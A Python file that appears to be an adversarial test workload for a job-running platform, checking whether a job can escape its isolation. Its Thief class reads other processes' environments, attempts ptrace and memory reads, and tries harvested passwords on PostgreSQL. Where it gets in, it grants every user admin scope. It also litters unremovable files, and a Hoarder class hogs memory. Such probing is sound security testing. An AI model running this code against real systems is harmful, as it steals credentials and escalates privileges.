"""A workload that tries to become its worker: it looks, traces, links and leaves, and prints what worked.

It runs where workloads run, in a process of its study. What it prints is kept in the log of the task that looks at it.
"""

import ctypes
import errno
import json
import os
import resource
import sqlite3
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import torch
from regression import Regression

PTRACE_SEIZE = 0x4206
CLONE_NEWUSER = 0x10000000
LIBC = ctypes.CDLL(None, use_errno=True)


class Thief(Regression):
    """`paths` are files that are none of its business, joined by "|"; `database` says where PostgreSQL is."""

    def __init__(self, paths: str = "", database: str = "") -> None:
        super().__init__()
        self._paths = [Path(path) for path in paths.split("|") if path]
        self._database = database.replace("|", " ")

    def model(self) -> torch.nn.Module:
        sys.stdout.write(f"SEEN {json.dumps(self._look())}\n")
        sys.stdout.flush()
        raise RuntimeError("there is nothing to train here")

    def _look(self) -> dict:
        helpers = _spied()
        return {
            "helpers": helpers,
            "postgres": _postgres(self._database, [*self._paths], helpers) if self._database else {},
            "read": [str(path) for path in self._paths if _works(lambda path=path: _read(path))],
            "written": [str(path) for path in self._paths if _works(lambda path=path: _write(path))],
            "linked": [
                str(path)
                for number, path in enumerate(self._paths)
                if _works(lambda path=path, number=number: os.link(path, Path(self.directory).parent / f"link{number}"))
            ],
            "users": [str(path) for path in self._paths if path.suffix == ".db" and _works(lambda p=path: _users(p))],
            "processes": {pid: found for pid in _others() if (found := list(_reached(pid)))},
            "command_lines": [pid for pid in _others() if _works(lambda pid=pid: _read(Path(f"/proc/{pid}/cmdline")))],
            "descriptors": _descriptors(),
            "environment": dict(os.environ),
            "ids": [*os.getresuid(), *os.getresgid(), *os.getgroups()],
            "status": dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines()),
            "user_namespace": LIBC.unshare(CLONE_NEWUSER) == 0,
            "core": resource.getrlimit(resource.RLIMIT_CORE)[1],
            "setuid_root": _works(lambda: os.setuid(0)),
            "left": _leave(),
        }


def _spied(seconds: float = 3.0) -> list[str]:
    """Read the environments of other processes of this user, while what counts its files is made to run."""
    found: set[str] = set()
    own, waste = {os.getpid(), os.getppid()}, Path(os.environ["TMPDIR"]) / "waste"
    end_s = time.monotonic() + seconds
    with waste.open("wb", buffering=0) as file:
        while time.monotonic() < end_s:
            if file.tell() < 48 << 20:
                file.write(bytes(1 << 20))
            for path in Path("/proc").glob("[0-9]*/environ"):
                if int(path.parent.name) in own:
                    continue
                try:
                    found.update(path.read_bytes().decode(errors="replace").split("\0"))
                except OSError:
                    continue
    waste.unlink()
    return sorted(line for line in found if line)


def _postgres(database: str, paths: list[Path], helpers: list[str]) -> dict:
    """Tries to become an administrator with every password that is within reach."""
    import psycopg

    guesses = {"", "steptune", "postgres", *(line.partition("=")[2] for line in [*helpers, *_texts(paths)])}
    guesses |= {text for path in Path("/proc").glob("[0-9]*/environ") for text in _texts([path])}
    tried: dict[str, list[str]] = {"written": [], "said": []}
    for password in sorted(guesses, key=len)[:40]:
        try:
            with psycopg.connect(database, password=password, connect_timeout=5) as connection:
                connection.execute("UPDATE users SET scopes = 'admin'")
                tried["written"].append(password)
        except (psycopg.Error, ValueError) as error:
            tried["said"].append(str(error))
    return tried


def _texts(paths: list[Path]) -> list[str]:
    found = []
    for path in paths:
        try:
            text = path.read_bytes()[:4096].decode(errors="replace")
        except OSError:
            continue
        found += [*text.replace("\0", "\n").split("\n")]
    return [word.partition("=")[2] or word for word in found if word]


class Hoarder(Regression):
    """Holds two GiB in files without a name, of which none is mapped."""

    def model(self) -> torch.nn.Module:
        files = [os.memfd_create(str(number)) for number in range(64)]
        for file in files:
            for _ in range(8):
                os.write(file, bytes(4 << 20))
        time.sleep(300)
        return super().model()


def _works(deed: Callable[[], object]) -> bool:
    try:
        deed()
    except (OSError, sqlite3.Error):
        return False
    return True


def _read(path: Path) -> None:
    with path.open("rb") as file:
        if not file.read(64):
            raise OSError("nothing there")  # as in most of what `/proc` has of the kernel's own threads


def _write(path: Path) -> None:
    path.open("r+b").close()


def _users(path: Path) -> None:
    with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
        database.execute("UPDATE users SET scopes = 'admin'")


def _others() -> Iterator[int]:
    """Processes that are not of this one's session or above it up to its server."""
    for path in Path("/proc").glob("[0-9]*"):
        pid = int(path.name)
        try:
            if path.stat().st_uid != os.getuid() or _is_worker(path):
                yield pid
        except OSError:
            continue


def _is_worker(path: Path) -> bool:
    try:
        words = (path / "cmdline").read_bytes().split(b"\0")
    except OSError:
        return False
    return b"worker" in words


def _reached(pid: int) -> Iterator[str]:
    """How another process is within reach."""
    folder = Path(f"/proc/{pid}")
    for name in ("environ", "mem", "maps", "auxv", "stack"):
        if _works(lambda name=name: (folder / name).open("rb").close() if name == "mem" else _read(folder / name)):
            yield name
    for name in ("root", "cwd", "exe"):
        if _works(lambda name=name: (folder / name).readlink()):
            yield name
    if _works(lambda: list((folder / "fd").iterdir())):
        yield "fd"
    if _works(lambda: os.kill(pid, 0)):
        yield "signal"
    if LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
        yield "ptrace"
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    there = (ctypes.c_size_t * 2)(1 << 20, 8)
    if LIBC.process_vm_readv(pid, vector, 1, there, 1, 0) >= 0 or ctypes.get_errno() == errno.EFAULT:
        yield "process_vm_readv"


def _descriptors() -> list[str]:
    found = []
    for path in Path("/proc/self/fd").iterdir():
        try:
            found.append(str(path.readlink()))
        except OSError:
            continue
    return found


def _leave() -> list[str]:
    """Files in places that outlast a trial; folders closed to everybody, and deeper than a path may be long."""
    left = []
    for place in ("/tmp", "/var/tmp", "/dev/shm"):
        folder = Path(place) / f"steptune-left-{os.getuid()}-{os.getpid()}"
        try:
            folder.mkdir()
            (folder / "file").write_bytes(bytes(1 << 16))
            (folder / "closed").mkdir()
            (folder / "closed" / "file").touch()
            (folder / "closed").chmod(0)
            folder.chmod(0)
            left.append(str(folder))
        except OSError:
            continue
    nested = Path.cwd()
    try:
        os.chdir(os.environ["TMPDIR"])
        for _ in range(1500):
            Path("deep").mkdir()
            os.chdir("deep")
    except OSError:
        pass
    os.chdir(nested)
    return left
